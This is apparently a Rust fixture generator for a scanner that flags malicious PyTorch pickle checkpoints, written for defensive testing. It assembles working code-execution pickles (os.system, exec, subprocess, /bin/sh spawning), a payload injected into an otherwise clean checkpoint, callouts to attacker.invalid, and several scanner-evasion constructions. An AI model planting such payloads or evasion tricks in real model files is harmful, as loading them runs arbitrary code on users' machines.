//! Writes `fixtures/pickle/`: the hostile pickle corpus the scanner must flag, and clean
//! checkpoints laid out exactly as `torch.save` writes them, which must pass and load.
//!
//! Every payload is present as opcodes only: nothing here runs it, and the scanner and
//! PyTorch reader never execute a pickle. Pickles are assembled byte by byte the way
//! CPython's pickler emits them (protocol 2 memo puts for strings, globals, tuples and
//! reduce results; MARK/TUPLE for tuples longer than three; EMPTY_TUPLE unmemoised) so
//! the clean files are what `torch.save(state_dict, f)` produces, without needing torch.
//! Uses std and the `zip` crate only.

use std::collections::HashMap;
use std::fs;
use std::io::{self, Cursor, Write};
use std::path::Path;

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, DateTime, ZipWriter};

/// Write every fixture into `dir` (created if missing).
pub fn write_all(dir: &Path) -> io::Result<()> {
    fs::create_dir_all(dir)?;
    for (name, bytes) in raw_pickles() {
        fs::write(dir.join(name), bytes)?;
    }
    fs::write(dir.join("clean.pt"), clean_zip()?)?;
    fs::write(dir.join("clean_legacy.pt"), clean_legacy())?;
    fs::write(dir.join("torch_injected.pt"), injected_zip()?)?;
    fs::write(dir.join("nested_pickle.pt"), nested_zip()?)?;
    fs::write(dir.join("legacy_os_system.pt"), legacy_os_system())?;
    fs::write(dir.join("nan_weights.pt"), nan_zip()?)?;
    Ok(())
}

// ---- raw byte helpers ----

fn bu(s: &str) -> Vec<u8> {
    let mut v = vec![b'X'];
    v.extend_from_slice(&(s.len() as u32).to_le_bytes());
    v.extend_from_slice(s.as_bytes());
    v
}

fn sbu(s: &str) -> Vec<u8> {
    let mut v = vec![0x8c, s.len() as u8];
    v.extend_from_slice(s.as_bytes());
    v
}

fn short_binbytes(b: &[u8]) -> Vec<u8> {
    let mut v = vec![b'C', b.len() as u8];
    v.extend_from_slice(b);
    v
}

fn glob(module: &str, name: &str) -> Vec<u8> {
    format!("c{module}\n{name}\n").into_bytes()
}

/// A protocol 4 STACK_GLOBAL with memoised operands, as CPython 3.8+ writes it.
fn stack_global(module: &str, name: &str) -> Vec<u8> {
    let mut v = sbu(module);
    v.push(0x94);
    v.extend(sbu(name));
    v.push(0x94);
    v.extend_from_slice(b"\x93\x94");
    v
}

fn cat(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// Wrap a protocol 4/5 body in its PROTO and FRAME header, as CPython does.
fn framed(proto: u8, body: &[u8]) -> Vec<u8> {
    let mut v = vec![0x80, proto, 0x95];
    v.extend_from_slice(&(body.len() as u64).to_le_bytes());
    v.extend_from_slice(body);
    v
}

const SHELL: &str = "echo pwned";
const PY: &str = "import os; os.system('echo pwned')";

fn raw_pickles() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        // Protocol 0: GLOBAL, MARK, STRING, TUPLE, REDUCE.
        (
            "os_system.pkl",
            b"cos\nsystem\n(S'echo pwned'\ntR.".to_vec(),
        ),
        // What `pickle.dumps(os.system)` names on Linux.
        (
            "posix_system.pkl",
            cat(&[
                b"\x80\x02",
                &glob("posix", "system"),
                b"q\x00",
                &bu(SHELL),
                b"q\x01\x85q\x02Rq\x03.",
            ]),
        ),
        (
            "subprocess_check_output.pkl",
            framed(
                4,
                &cat(&[
                    &stack_global("subprocess", "check_output"),
                    &sbu("echo"),
                    b"\x94",
                    &sbu("pwned"),
                    b"\x94\x86\x94\x85\x94R\x94.",
                ]),
            ),
        ),
        (
            "builtins_eval.pkl",
            cat(&[
                b"\x80\x03",
                &glob("builtins", "eval"),
                b"q\x00",
                &bu("__import__('os').system('echo pwned')"),
                b"q\x01\x85q\x02Rq\x03.",
            ]),
        ),
        (
            "builtins_exec.pkl",
            framed(
                4,
                &cat(&[
                    &stack_global("builtins", "exec"),
                    &sbu(PY),
                    b"\x94\x85\x94R\x94.",
                ]),
            ),
        ),
        // Protocol 0 INST with the Python 2 module name: import and call in one opcode.
        (
            "builtin_import_inst.pkl",
            b"(S'os'\ni__builtin__\n__import__\np0\n.".to_vec(),
        ),
        // getattr(__import__('os'), 'system')('echo pwned')
        (
            "getattr_chain.pkl",
            cat(&[
                b"\x80\x02",
                &glob("builtins", "getattr"),
                b"q\x00",
                &glob("builtins", "__import__"),
                b"q\x01",
                &bu("os"),
                b"q\x02\x85q\x03Rq\x04",
                &bu("system"),
                b"q\x05\x86q\x06Rq\x07",
                &bu(SHELL),
                b"q\x08\x85q\x09Rq\x0a.",
            ]),
        ),
        (
            "runpy_run_code.pkl",
            cat(&[
                b"\x80\x02",
                &glob("runpy", "_run_code"),
                b"q\x00",
                &bu(PY),
                b"q\x01}q\x02\x86q\x03Rq\x04.",
            ]),
        ),
        // Protocol 1 OBJ: MARK cls args OBJ calls cls(*args).
        (
            "importlib_obj.pkl",
            cat(&[
                b"(",
                &glob("importlib", "import_module"),
                b"q\x00",
                &bu("os"),
                b"q\x01oq\x02.",
            ]),
        ),
        // types.FunctionType(marshal.loads(<code object>), {})() -- the bytes are a stand-in.
        (
            "marshal_loads.pkl",
            cat(&[
                b"\x80\x03",
                &glob("types", "FunctionType"),
                b"q\x00",
                &glob("marshal", "loads"),
                b"q\x01",
                &short_binbytes(b"\xe3marshalled code object"),
                b"q\x02\x85q\x03Rq\x04}q\x05\x86q\x06Rq\x07)Rq\x08.",
            ]),
        ),
        (
            "numpy_runstring.pkl",
            cat(&[
                b"\x80\x02",
                &glob("numpy.testing._private.utils", "runstring"),
                b"q\x00",
                &bu(PY),
                b"q\x01}q\x02\x86q\x03Rq\x04.",
            ]),
        ),
        (
            "torch_collect_env.pkl",
            cat(&[
                b"\x80\x02",
                &glob("torch.utils.collect_env", "run"),
                b"q\x00",
                &bu(SHELL),
                b"q\x01\x85q\x02Rq\x03.",
            ]),
        ),
        // Protocol 5: spawnv_passfds(b'/bin/sh', ['/bin/sh', '-c', 'echo pwned'], ())
        (
            "multiprocessing_spawnv.pkl",
            framed(
                5,
                &cat(&[
                    &stack_global("multiprocessing.util", "spawnv_passfds"),
                    b"C\x07/bin/sh\x94]\x94(",
                    &sbu("/bin/sh"),
                    b"\x94",
                    &sbu("-c"),
                    b"\x94",
                    &sbu(SHELL),
                    b"\x94e)\x87\x94R\x94.",
                ]),
            ),
        ),
        (
            "pandas_read_csv.pkl",
            framed(
                4,
                &cat(&[
                    &stack_global("pandas", "read_csv"),
                    &sbu("http://attacker.invalid/x.csv"),
                    b"\x94\x85\x94R\x94.",
                ]),
            ),
        ),
        (
            "webbrowser_open.pkl",
            cat(&[
                b"\x80\x02",
                &glob("webbrowser", "open"),
                b"q\x00",
                &bu("http://attacker.invalid/"),
                b"q\x01\x85q\x02Rq\x03.",
            ]),
        ),
        (
            "socket_connect.pkl",
            cat(&[
                b"\x80\x03",
                &glob("socket", "create_connection"),
                b"q\x00",
                &bu("attacker.invalid"),
                b"q\x01M\x5c\x11\x86q\x02\x85q\x03Rq\x04.",
            ]),
        ),
        // attrgetter('__globals__')(torch._utils._rebuild_tensor_v2): an allowlisted global
        // used as a stepping stone.
        (
            "operator_attrgetter.pkl",
            cat(&[
                b"\x80\x02",
                &glob("operator", "attrgetter"),
                b"q\x00",
                &bu("__globals__"),
                b"q\x01\x85q\x02Rq\x03",
                &glob("torch._utils", "_rebuild_tensor_v2"),
                b"q\x04\x85q\x05Rq\x06.",
            ]),
        ),
        // Names memoised first and fetched later by BINGET / LONG_BINGET, after a decoy
        // OrderedDict import, so a scanner that only looks at the bytes before
        // STACK_GLOBAL sees `OrderedDict`.
        (
            "stack_global_memo.pkl",
            framed(
                4,
                &cat(&[
                    &sbu("os"),
                    b"\x94",
                    &sbu("system"),
                    b"\x9400",
                    &sbu("collections"),
                    b"\x94",
                    &sbu("OrderedDict"),
                    b"\x94\x93\x94)R\x940",
                    b"h\x00j\x01\x00\x00\x00\x93\x94",
                    &sbu(SHELL),
                    b"\x94\x85\x94R\x94.",
                ]),
            ),
        ),
        // Protocol 0 PUT/GET text memo feeding a STACK_GLOBAL (legal: the unpickler does
        // not check that opcodes match the protocol).
        (
            "stack_global_text_memo.pkl",
            b"Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93(Vecho pwned\ntR.".to_vec(),
        ),
        // A protocol 4 attribute path through an allowlisted function into its module.
        (
            "dunder_attribute_path.pkl",
            framed(
                4,
                &cat(&[
                    &stack_global("torch._utils", "_rebuild_tensor_v2.__globals__"),
                    b".",
                ]),
            ),
        ),
        // STACK_GLOBAL whose module name is computed at load time: builtins.str('os').
        (
            "dynamic_global.pkl",
            framed(
                4,
                &cat(&[
                    &stack_global("builtins", "str"),
                    &sbu("os"),
                    b"\x94\x85\x94R\x94",
                    &sbu("system"),
                    b"\x94\x93\x94",
                    &sbu(SHELL),
                    b"\x94\x85\x94R\x94.",
                ]),
            ),
        ),
        // Not dangerous, not allowlisted: a `training_args.bin` built by NEWOBJ + BUILD.
        (
            "unknown_global.pkl",
            cat(&[
                b"\x80\x02",
                &glob("transformers.training_args", "TrainingArguments"),
                b"q\x00)\x81q\x01}q\x02",
                &bu("output_dir"),
                b"q\x03",
                &bu("out"),
                b"q\x04sb.",
            ]),
        ),
        // The same class only referenced, never called: a pickle whose value is the class.
        (
            "unknown_global_referenced.pkl",
            cat(&[
                b"\x80\x02",
                &glob("transformers.training_args", "TrainingArguments"),
                b"q\x00.",
            ]),
        ),
    ]
}

// ---- torch.save-style pickles ----

/// A protocol 2 pickler that memoises like CPython's: every string, global, non-empty
/// tuple and reduce result gets a BINPUT; a repeated string or global is a BINGET.
struct Pk {
    out: Vec<u8>,
    next: u32,
    memo: HashMap<String, u32>,
}

impl Pk {
    fn new() -> Pk {
        Pk {
            out: vec![0x80, 2],
            next: 0,
            memo: HashMap::new(),
        }
    }

    fn raw(&mut self, b: &[u8]) {
        self.out.extend_from_slice(b);
    }

    fn put(&mut self) {
        if self.next < 256 {
            self.out.extend_from_slice(&[b'q', self.next as u8]);
        } else {
            self.out.push(b'r');
            self.out.extend_from_slice(&self.next.to_le_bytes());
        }
        self.next += 1;
    }

    fn get(&mut self, i: u32) {
        if i < 256 {
            self.out.extend_from_slice(&[b'h', i as u8]);
        } else {
            self.out.push(b'j');
            self.out.extend_from_slice(&i.to_le_bytes());
        }
    }

    fn memoised(&mut self, key: String, write: impl FnOnce(&mut Vec<u8>)) {
        if let Some(&i) = self.memo.get(&key) {
            self.get(i);
        } else {
            write(&mut self.out);
            self.memo.insert(key, self.next);
            self.put();
        }
    }

    fn global(&mut self, module: &str, name: &str) {
        self.memoised(format!("global {module} {name}"), |o| {
            o.extend(glob(module, name))
        });
    }

    fn str(&mut self, s: &str) {
        self.memoised(format!("str {s}"), |o| o.extend(bu(s)));
    }

    fn int(&mut self, v: u64) {
        if v < 256 {
            self.raw(&[b'K', v as u8]);
        } else if v < 65536 {
            self.raw(b"M");
            self.raw(&(v as u16).to_le_bytes());
        } else if v < (1 << 31) {
            self.raw(b"J");
            self.raw(&(v as u32).to_le_bytes());
        } else {
            // LONG1 with a non-negative two's-complement encoding.
            let mut b = v.to_le_bytes().to_vec();
            while b.len() > 1 && b[b.len() - 1] == 0 && b[b.len() - 2] & 0x80 == 0 {
                b.pop();
            }
            if b[b.len() - 1] & 0x80 != 0 {
                b.push(0);
            }
            self.raw(&[0x8a, b.len() as u8]);
            self.raw(&b);
        }
    }

    fn int_tuple(&mut self, vals: &[u64]) {
        if vals.is_empty() {
            self.raw(b")");
            return;
        }
        if vals.len() > 3 {
            self.raw(b"(");
        }
        for v in vals {
            self.int(*v);
        }
        match vals.len() {
            1 => self.raw(b"\x85"),
            2 => self.raw(b"\x86"),
            3 => self.raw(b"\x87"),
            _ => self.raw(b"t"),
        }
        self.put();
    }

    fn empty_ordered_dict(&mut self) {
        self.global("collections", "OrderedDict");
        self.raw(b")R");
        self.put();
    }

    /// `torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())`,
    /// wrapped in `_rebuild_parameter(t, True, OrderedDict())` for parameters.
    fn tensor(&mut self, t: &Spec, legacy: bool) {
        if t.parameter {
            self.global("torch._utils", "_rebuild_parameter");
        }
        self.global("torch._utils", "_rebuild_tensor_v2");
        self.raw(b"((");
        self.str("storage");
        self.global("torch", t.class);
        self.str(t.key);
        self.str("cpu");
        self.int(t.numel);
        if legacy {
            self.raw(b"N");
        }
        self.raw(b"t");
        self.put();
        self.raw(b"Q");
        self.int(t.offset);
        self.int_tuple(t.shape);
        let mut stride = vec![0u64; t.shape.len()];
        let mut s = 1;
        for (i, d) in t.shape.iter().enumerate().rev() {
            stride[i] = s;
            s *= d;
        }
        self.int_tuple(&stride);
        self.raw(b"\x89");
        self.empty_ordered_dict();
        self.raw(b"t");
        self.put();
        self.raw(b"R");
        self.put();
        if t.parameter {
            self.raw(b"\x88");
            self.empty_ordered_dict();
            self.raw(b"\x87");
            self.put();
            self.raw(b"R");
            self.put();
        }
    }

    fn finish(mut self) -> Vec<u8> {
        self.out.push(b'.');
        self.out
    }
}

/// One tensor of a fixture state dict.
struct Spec {
    name: &'static str,
    class: &'static str,
    key: &'static str,
    /// Elements in the whole storage.
    numel: u64,
    offset: u64,
    shape: &'static [u64],
    parameter: bool,
}

/// `torch.save(state_dict)`'s pickle: an `OrderedDict` of tensors with `_metadata` set
/// by BUILD. `extra` adds items after the tensors (an injected payload).
fn state_dict(tensors: &[Spec], legacy: bool, extra: impl FnOnce(&mut Pk)) -> Vec<u8> {
    let mut p = Pk::new();
    p.empty_ordered_dict();
    p.raw(b"(");
    for t in tensors {
        p.str(t.name);
        p.tensor(t, legacy);
    }
    extra(&mut p);
    p.raw(b"u}");
    p.put();
    p.str("_metadata");
    p.empty_ordered_dict();
    p.str("");
    p.raw(b"}");
    p.put();
    p.str("version");
    p.int(1);
    p.raw(b"sssb");
    p.finish()
}

fn f32s(v: &[f32]) -> Vec<u8> {
    v.iter().flat_map(|x| x.to_le_bytes()).collect()
}

fn u16s(v: &[u16]) -> Vec<u8> {
    v.iter().flat_map(|x| x.to_le_bytes()).collect()
}

/// The clean checkpoint's tensors and storages. `lm_head.weight` is a parameter viewing
/// rows 1-2 of `model.embed.weight`'s storage, as tied weights do.
fn clean_tensors() -> (Vec<Spec>, Vec<(&'static str, Vec<u8>)>) {
    let embed: Vec<f32> = (0..12).map(|i| i as f32 * 0.25 - 1.0).collect();
    // f16 bits of 1.0, 0.5, -2.0, 1.5
    let norm = [0x3c00u16, 0x3800, 0xc000, 0x3e00];
    let specs = vec![
        Spec {
            name: "model.embed.weight",
            class: "FloatStorage",
            key: "0",
            numel: 12,
            offset: 0,
            shape: &[3, 4],
            parameter: false,
        },
        Spec {
            name: "model.norm.weight",
            class: "HalfStorage",
            key: "1",
            numel: 4,
            offset: 0,
            shape: &[4],
            parameter: false,
        },
        Spec {
            name: "lm_head.weight",
            class: "FloatStorage",
            key: "0",
            numel: 12,
            offset: 4,
            shape: &[2, 4],
            parameter: true,
        },
        Spec {
            name: "model.scale",
            class: "FloatStorage",
            key: "2",
            numel: 1,
            offset: 0,
            shape: &[],
            parameter: false,
        },
    ];
    let storages = vec![("0", f32s(&embed)), ("1", u16s(&norm)), ("2", f32s(&[3.0]))];
    (specs, storages)
}

/// A zip archive laid out as `torch.save` writes one: `archive/data.pkl`, the format
/// records, `archive/data/<key>` storages, `archive/version`, the serialization id. Every
/// entry is stored and its data aligned to 64 bytes (torch pads with an extra field).
fn torch_zip(
    pkl: &[u8],
    storages: &[(&str, Vec<u8>)],
    extra: &[(&str, Vec<u8>)],
) -> io::Result<Vec<u8>> {
    let mut zw = ZipWriter::new(Cursor::new(Vec::new()));
    let stored = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Stored)
        .last_modified_time(DateTime::default())
        .with_alignment(64);
    let deflated = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .last_modified_time(DateTime::default());
    let mut add = |name: &str, data: &[u8], opts: SimpleFileOptions| -> io::Result<()> {
        zw.start_file(name, opts).map_err(io::Error::other)?;
        zw.write_all(data)
    };
    add("archive/data.pkl", pkl, stored)?;
    add("archive/.format_version", b"1", stored)?;
    add("archive/.storage_alignment", b"64", stored)?;
    add("archive/byteorder", b"little", stored)?;
    for (key, data) in storages {
        add(&format!("archive/data/{key}"), data, stored)?;
    }
    add("archive/version", b"3\n", stored)?;
    add(
        "archive/.data/serialization_id",
        b"1042897013260592108504721369835209316587",
        stored,
    )?;
    for (name, data) in extra {
        add(name, data, deflated)?;
    }
    Ok(zw.finish().map_err(io::Error::other)?.into_inner())
}

fn clean_zip() -> io::Result<Vec<u8>> {
    let (specs, storages) = clean_tensors();
    torch_zip(&state_dict(&specs, false, |_| {}), &storages, &[])
}

/// The clean tensors with a payload run first: `exec(...)` at the top of `data.pkl`,
/// its result popped, then the untouched state dict.
fn injected_zip() -> io::Result<Vec<u8>> {
    let (specs, storages) = clean_tensors();
    let clean = state_dict(&specs, false, |_| {});
    let mut pkl = b"\x80\x02".to_vec();
    pkl.extend(glob("builtins", "exec"));
    pkl.extend(bu(PY));
    pkl.extend_from_slice(b"\x85R0");
    pkl.extend_from_slice(&clean[2..]);
    torch_zip(&pkl, &storages, &[])
}

/// A clean checkpoint carrying a second, deflated pickle that `torch.load` never reads
/// but anything else might.
fn nested_zip() -> io::Result<Vec<u8>> {
    let (specs, storages) = clean_tensors();
    let payload = b"cos\nsystem\n(S'echo pwned'\ntR.".to_vec();
    torch_zip(
        &state_dict(&specs, false, |_| {}),
        &storages,
        &[("archive/extra/payload.pkl", payload)],
    )
}

fn nan_zip() -> io::Result<Vec<u8>> {
    let specs = vec![
        Spec {
            name: "bad.weight",
            class: "FloatStorage",
            key: "0",
            numel: 4,
            offset: 0,
            shape: &[4],
            parameter: false,
        },
        Spec {
            name: "zero.bias",
            class: "HalfStorage",
            key: "1",
            numel: 3,
            offset: 0,
            shape: &[3],
            parameter: false,
        },
        Spec {
            name: "ok.weight",
            class: "BFloat16Storage",
            key: "2",
            numel: 2,
            offset: 0,
            shape: &[2],
            parameter: false,
        },
    ];
    let storages = vec![
        ("0", f32s(&[1.0, f32::NAN, f32::INFINITY, -1.0])),
        ("1", u16s(&[0, 0, 0])),
        // bf16 bits of 1.0 and -0.5
        ("2", u16s(&[0x3f80, 0xbf00])),
    ];
    torch_zip(&state_dict(&specs, false, |_| {}), &storages, &[])
}

// ---- legacy (pre-1.6) torch.save files ----

/// `torch.serialization.MAGIC_NUMBER`, pickled.
const LEGACY_MAGIC: &[u8] = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.";

fn legacy_file(object: Vec<u8>, storages: &[(&str, u64, Vec<u8>)]) -> Vec<u8> {
    let mut out = LEGACY_MAGIC.to_vec();
    out.extend_from_slice(b"\x80\x02M\xe9\x03.");
    // {'protocol_version': 1001, 'little_endian': True, 'type_sizes': {...}}
    let mut sys = Pk::new();
    sys.raw(b"}");
    sys.put();
    sys.raw(b"(");
    sys.str("protocol_version");
    sys.int(1001);
    sys.str("little_endian");
    sys.raw(b"\x88");
    sys.str("type_sizes");
    sys.raw(b"}");
    sys.put();
    sys.raw(b"(");
    for (k, v) in [("short", 2), ("int", 4), ("long", 4)] {
        sys.str(k);
        sys.int(v);
    }
    sys.raw(b"uu");
    out.extend(sys.finish());
    out.extend(object);
    let mut keys: Vec<&str> = storages.iter().map(|s| s.0).collect();
    keys.sort_unstable();
    let mut kp = Pk::new();
    kp.raw(b"]");
    kp.put();
    kp.raw(b"(");
    for k in &keys {
        kp.str(k);
    }
    kp.raw(b"e");
    out.extend(kp.finish());
    for k in keys {
        if let Some((_, numel, data)) = storages.iter().find(|s| s.0 == k) {
            out.extend_from_slice(&(*numel as i64).to_le_bytes());
            out.extend_from_slice(data);
        }
    }
    out
}

/// The clean tensors in the legacy layout (storage keys are object ids there).
fn clean_legacy() -> Vec<u8> {
    let (mut specs, storages) = clean_tensors();
    let ids = [
        ("0", "94105103453184"),
        ("1", "94105103460352"),
        ("2", "94105103461888"),
    ];
    fn id(ids: &[(&'static str, &'static str)], k: &'static str) -> &'static str {
        ids.iter().find(|(a, _)| *a == k).map_or(k, |(_, b)| *b)
    }
    let id = |k: &'static str| id(&ids, k);
    for s in &mut specs {
        s.key = id(s.key);
    }
    let legacy: Vec<(&str, u64, Vec<u8>)> = storages
        .into_iter()
        .map(|(k, data)| {
            let numel = specs.iter().find(|s| s.key == id(k)).map_or(0, |s| s.numel);
            (id(k), numel, data)
        })
        .collect();
    legacy_file(state_dict(&specs, true, |_| {}), &legacy)
}

/// A legacy checkpoint whose state dict holds `os.system('echo pwned')` beside a tensor.
fn legacy_os_system() -> Vec<u8> {
    let specs = [Spec {
        name: "w",
        class: "FloatStorage",
        key: "94105103453184",
        numel: 2,
        offset: 0,
        shape: &[2],
        parameter: false,
    }];
    let object = state_dict(&specs, true, |p| {
        p.str("x");
        p.global("os", "system");
        p.str(SHELL);
        p.raw(b"\x85");
        p.put();
        p.raw(b"R");
        p.put();
    });
    legacy_file(object, &[("94105103453184", 2, f32s(&[0.5, -0.5]))])
}
